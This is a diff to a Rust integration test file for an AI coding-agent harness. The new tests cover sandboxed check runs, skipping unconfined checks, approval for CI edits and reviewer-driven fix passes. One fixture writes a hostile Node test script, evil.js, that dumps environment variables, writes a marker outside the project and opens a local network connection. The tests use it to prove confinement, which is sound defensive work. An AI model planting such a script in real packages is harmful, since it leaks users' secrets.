@@ -16,10 +16,23 @@ use serde_json::{Value, json};
 /// `edits` in order, the review to an approving reviewer and every other worker to a canned
 /// result. Every role uses model `test/any`, the reviewer `test/review`.
 async fn scripted(home: &TempHome, edits: Vec<Reply>) -> ScriptedServer {
+    scripted_reviews(home, edits, vec![review_reply("approved")]).await
+}
+
+/// [`scripted`], with the reviewer's replies in order (the last one repeats).
+async fn scripted_reviews(
+    home: &TempHome,
+    edits: Vec<Reply>,
+    reviews: Vec<Reply>,
+) -> ScriptedServer {
     let server = ScriptedServer::start(
         Script::new()
             .when(Matcher::tool_offered("edit_file"), edits)
-            .always(Matcher::model("review"), review_reply("approved"))
+            .rule(
+                braincode_test_support::Rule::new(Matcher::model("review"))
+                    .replies(reviews)
+                    .repeat_last(),
+            )
             .always(Matcher::model("any"), worker_reply("looked at the project")),
     )
     .await;
@@ -134,6 +147,32 @@ async fn fails_then_fixes(
     let fixes = records(&entries, "fix_iteration");
     assert_eq!(fixes.len(), 1);
     assert_eq!(fixes[0]["trigger"], "checks_failed");
+    eprintln!(
+        "{check}: last edit → check start {} ms",
+        edit_to_check_ms(&entries)
+    );
+}
+
+/// The time from the end of the first pass's last edit to the start of its first check
+/// (the check summary's time less the checks' durations): a figure, never asserted.
+fn edit_to_check_ms(entries: &[Value]) -> i64 {
+    let first_check = entries
+        .iter()
+        .position(|r| r["type"] == "check_summary")
+        .unwrap();
+    let last_edit = entries[..first_check]
+        .iter()
+        .rev()
+        .find(|r| r["type"] == "tool_execution_summary" && r["stage"] == "end")
+        .unwrap();
+    let summary = &entries[first_check];
+    let ran: i64 = summary["results"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| r["durationMs"].as_i64().unwrap())
+        .sum();
+    summary["timestamp"].as_i64().unwrap() - ran - last_edit["timestamp"].as_i64().unwrap()
 }
 
 fn cargo_project() -> TempRepo {
@@ -278,4 +317,211 @@ async fn a_docs_only_change_runs_no_check_and_says_why() {
     assert_eq!(report["checks"]["riskTier"], "low");
     assert!(report["checks"]["results"].as_array().unwrap().is_empty());
     assert!(!repo.path().join("target").exists(), "no cargo ran");
+}
+
+/// A Node package whose test script is the attacker's: it writes a marker outside the
+/// project, connects to a 127.0.0.1 server, and copies its environment into the project.
+fn hostile_node_project(outside: &std::path::Path, port: u16) -> TempRepo {
+    let repo = TempRepo::new();
+    repo.write(
+        "package.json",
+        "{\"name\": \"calc\", \"version\": \"1.0.0\", \"scripts\": {\"test\": \"node evil.js\"}}\n",
+    );
+    repo.write(
+        "package-lock.json",
+        "{\"name\": \"calc\", \"lockfileVersion\": 3, \"packages\": {}}\n",
+    );
+    repo.write("calc.js", "exports.add = (a, b) => a + b;\n");
+    repo.write(
+        "evil.js",
+        &format!(
+            "const fs = require('fs');\n\
+             fs.writeFileSync('ran.txt', JSON.stringify(process.env));\n\
+             try {{ fs.writeFileSync({marker:?}, 'pwned'); }} catch (e) {{}}\n\
+             const s = require('net').connect({port}, '127.0.0.1');\n\
+             s.on('error', () => {{}});\n\
+             setTimeout(() => process.exit(0), 300);\n",
+            marker = outside.join("pwned").display().to_string(),
+        ),
+    );
+    repo.commit("calc");
+    repo
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn checks_of_a_hostile_repository_run_confined_after_an_allowed_edit() {
+    let hit = braincode_test_support::HitServer::start();
+    let outside = tempfile::tempdir().unwrap();
+    let repo = hostile_node_project(outside.path(), hit.port());
+    let home = TempHome::new();
+    let _server = scripted(
+        &home,
+        vec![
+            edit("calc.js", "a + b", "b + a"),
+            Reply::text("Swapped the operands."),
+        ],
+    )
+    .await;
+    let out = run_harness::braincode_env(
+        &home,
+        repo.path(),
+        &[
+            "run",
+            "--json",
+            "--heuristic",
+            "--allow-edits",
+            "Refactor the function in calc.js",
+        ],
+        &[("MY_SERVICE_TOKEN", "sekrit-value-123")],
+    )
+    .await;
+    let report: Value = serde_json::from_str(&out.stdout).unwrap();
+    // The check ran (it left its file in the project)…
+    assert_eq!(report["checks"]["status"], "passed", "{report:#}");
+    let env = repo.read("ran.txt");
+    // …without the secret, without reaching anything outside the project or the network.
+    assert!(
+        !env.contains("sekrit-value-123"),
+        "a secret reached the check"
+    );
+    assert!(
+        !outside.path().join("pwned").exists(),
+        "the check wrote outside the project"
+    );
+    assert_eq!(hit.hits(), 0, "the check reached the network");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn without_a_sandbox_checks_wait_for_a_person_and_nothing_runs() {
+    let hit = braincode_test_support::HitServer::start();
+    let outside = tempfile::tempdir().unwrap();
+    let repo = hostile_node_project(outside.path(), hit.port());
+    let home = TempHome::new();
+    let _server = scripted(
+        &home,
+        vec![
+            edit("calc.js", "a + b", "b + a"),
+            Reply::text("Swapped the operands."),
+        ],
+    )
+    .await;
+    let out = run_harness::braincode_env(
+        &home,
+        repo.path(),
+        &[
+            "run",
+            "--json",
+            "--heuristic",
+            "--allow-edits",
+            "Refactor the function in calc.js",
+        ],
+        &[("BRAINCODE_SANDBOX", "off")],
+    )
+    .await;
+    let report: Value = serde_json::from_str(&out.stdout).unwrap();
+    assert_eq!(report["checks"]["status"], "skipped", "{report:#}");
+    assert!(
+        report["checks"]["reason"]
+            .as_str()
+            .unwrap()
+            .starts_with("check scripts blocked"),
+        "{report:#}"
+    );
+    assert!(
+        report["warnings"].to_string().contains("checks skipped"),
+        "{report:#}"
+    );
+    assert!(
+        !repo.path().join("ran.txt").exists(),
+        "the test script ran unconfined"
+    );
+    assert_eq!(hit.hits(), 0);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_ci_change_needs_more_than_allow_edits_to_run_checks_and_gets_a_review() {
+    let repo = cargo_project();
+    // (`.github/workflows` is protected: only a person may edit it at all.)
+    repo.write(".gitlab-ci.yml", "test:\n  script: cargo test\n");
+    repo.commit("ci");
+    let home = TempHome::new();
+    let server = scripted(
+        &home,
+        vec![
+            edit("src/lib.rs", "    a + b\n", "    b + a\n"),
+            edit(".gitlab-ci.yml", "cargo test\n", "cargo test --all\n"),
+            Reply::text("Changed the code and the workflow."),
+        ],
+    )
+    .await;
+    let (code, report) = run(
+        &home,
+        &repo,
+        "--allow-edits",
+        "Refactor the function in src/lib.rs",
+    )
+    .await;
+    assert_eq!(code, 0, "{report:#}");
+    let checks = &report["checks"];
+    assert_eq!(checks["patchKind"], "ci-risk", "{checks:#}");
+    assert_eq!(checks["riskTier"], "high", "{checks:#}");
+    assert_eq!(checks["status"], "skipped", "{checks:#}");
+    assert!(checks["reason"].to_string().contains("--yes"), "{checks:#}");
+    assert!(!repo.path().join("target").exists(), "no cargo ran");
+    // The patch kind asked for an independent review, which saw that checks were skipped.
+    let review = server
+        .requests()
+        .into_iter()
+        .find(|r| r.model() == Some("review"))
+        .expect("a review ran");
+    assert!(review.last_user_text().contains("Checks were skipped"));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_review_that_requests_changes_gets_a_fix_pass_and_then_approves() {
+    let repo = cargo_project();
+    let home = TempHome::new();
+    let changes = Reply::json(&json!({
+        "taskId": "x", "parentId": "y",
+        "progress": {"status": "completed", "summary": "reviewed"},
+        "summary": "The swap hurts readability.", "artifacts": [], "risks": [], "nextQuestions": [],
+        "decision": "changes_requested", "confidence": 0.8, "rationale": "readability",
+        "findings": [], "requiredChanges": ["keep the explicit addition, it reads better"],
+        "blockingIssues": [], "residualRisks": []
+    }));
+    let server = scripted_reviews(
+        &home,
+        vec![
+            edit("src/lib.rs", "    a + b\n", "    b + a\n"),
+            Reply::text("Swapped them."),
+            edit("src/lib.rs", "    b + a\n", "    a + b\n"),
+            Reply::text("Put the addition back."),
+        ],
+        vec![changes, review_reply("approved")],
+    )
+    .await;
+    let (code, report) = run(
+        &home,
+        &repo,
+        "--allow-edits",
+        "Refactor the function in src/lib.rs",
+    )
+    .await;
+    assert_eq!(code, 0, "{report:#}");
+    assert_eq!(report["status"], "approved", "{report:#}");
+    assert_eq!(report["fixIterations"], 1);
+    let fix = server
+        .requests()
+        .into_iter()
+        .find(|r| r.last_user_text().contains("Your change is not done yet"))
+        .expect("a fix prompt");
+    assert!(fix.last_user_text().contains("keep the explicit addition"));
+    let entries = journal(&home, report["sessionId"].as_str().unwrap());
+    let fixes = records(&entries, "fix_iteration");
+    assert_eq!(fixes[0]["trigger"], "changes_requested");
+    let reviews = records(&entries, "review_decision");
+    assert_eq!(reviews.len(), 2);
+    let artifacts = records(&entries, "review_artifacts_summary");
+    assert_eq!(artifacts[0]["independent"], true, "{artifacts:#?}");
+    assert_eq!(artifacts[0]["checksStatus"], "passed");
 }
